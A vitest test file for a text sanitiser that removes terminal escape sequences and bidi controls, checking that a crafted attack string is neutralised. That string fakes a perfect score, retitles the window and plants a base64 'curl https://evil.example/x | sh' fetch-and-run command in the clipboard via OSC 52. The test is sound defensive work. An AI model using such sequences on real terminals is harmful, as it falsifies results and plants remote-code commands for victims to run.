import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sanitiseStrings, sanitiseText } from './sanitiseText.ts';

const ESC = '\u001b';
const BEL = '\u0007';

/** What a submission threw to take over an instructor's terminal: move up (ESC M), back to the line start, overwrite the score, retitle the window, fill the clipboard. */
const TERMINAL_ATTACK =
  `wrong${ESC}M${ESC}M\r${ESC}[2KScore: 96 / 96${ESC}]0;relu-lab: all passed${BEL}` +
  `${ESC}]52;c;${Buffer.from('curl https://evil.example/x | sh').toString('base64')}${ESC}\\done`;

/** Anything a terminal, XML 1.0 or a bidi algorithm would act on. */
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;

describe('sanitiseText', () => {
  test('the terminal attack keeps its words and loses every control', () => {
    const clean = sanitiseText(TERMINAL_ATTACK);
    expect(clean).toBe('wrong\\u000DScore: 96 / 96done');
    expect(clean).not.toMatch(CONTROL);
    expect(clean).not.toContain('evil');
    expect(clean).not.toContain(Buffer.from('curl https://evil.example/x | sh').toString('base64'));
  });

  test('CSI, OSC (BEL or ST), DCS, SOS, PM, APC, nF and single-character escapes are removed whole', () => {
    expect(sanitiseText(`${ESC}[1;31mred${ESC}[0m ${ESC}[?25l`)).toBe('red ');
    expect(sanitiseText(`a${ESC}]8;;https://x${ESC}\\link${ESC}]8;;${ESC}\\b`)).toBe('alinkb');
    expect(sanitiseText(`a${ESC}Pq#0;2;0;0;0${ESC}\\b${ESC}Xsos${ESC}\\c${ESC}^pm\u009cd${ESC}_apc${BEL}e`)).toBe('abcde');
    expect(sanitiseText(`a${ESC}(Bb${ESC}7c${ESC}8d${ESC}ce${ESC}Mf`)).toBe('abcdef');
  });

  test('an unterminated string runs to the end, as a terminal would swallow it; a lone ESC is shown', () => {
    expect(sanitiseText(`ok${ESC}]0;title without end`)).toBe('ok');
    expect(sanitiseText(`end${ESC}`)).toBe('end\\u001B');
    expect(sanitiseText(`${ESC}${ESC}[31mx`)).toBe('\\u001Bx');
  });

  test('other controls, DEL, C1 and bidi controls are shown as \\uXXXX; LF and tab stay; CRLF becomes LF', () => {
    expect(sanitiseText('a\rb\u0000c\u0008d\u007fe\u009bf\u0085g')).toBe('a\\u000Db\\u0000c\\u0008d\\u007Fe\\u009Bf\\u0085g');
    expect(sanitiseText('x = 1; // \u202Eevil\u2066 \u2069\u200F')).toBe('x = 1; // \\u202Eevil\\u2066 \\u2069\\u200F');
    expect(sanitiseText('line 1\r\nline 2\n\tindented')).toBe('line 1\nline 2\n\tindented');
  });

  test('singleLine shows line breaks and tabs too', () => {
    expect(sanitiseText('alice\n.zip\t', { singleLine: true })).toBe('alice\\u000A.zip\\u0009');
    expect(sanitiseText('a\r\nb', { singleLine: true })).toBe('a\\u000D\\u000Ab');
  });

  test('plain text, accents and symbols are returned unchanged', () => {
    const text = 'relu(-0.5) returned −0, expected 0 · naïve ✓ █░ 日本';
    expect(sanitiseText(text)).toBe(text);
  });

  test('no input leaves a control behind, and clean text is a fixed point', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (text) => {
        const once = sanitiseText(text);
        expect(once).not.toMatch(CONTROL);
        expect(sanitiseText(once)).toBe(once);
        expect(sanitiseText(text, { singleLine: true })).not.toMatch(/[\n\t]/);
      }),
      { seed: 20261126, numRuns: 500 },
    );
  });
});

describe('sanitiseStrings', () => {
  test('reaches strings deep in plain objects and arrays, leaves class instances and other values alone', () => {
    class Markup {
      constructor(readonly markup: string) {}
    }
    const markup = new Markup('<svg>\r</svg>');
    const view = { title: `t${ESC}[1m`, n: 3, none: null, list: [{ message: 'a\rb' }, 'c\u202E'], markup };
    const clean = sanitiseStrings(view);
    expect(clean).toEqual({ title: 't', n: 3, none: null, list: [{ message: 'a\\u000Db' }, 'c\\u202E'], markup });
    expect(clean.markup).toBe(markup);
    expect(view.list[0]).toEqual({ message: 'a\rb' });
  });
});
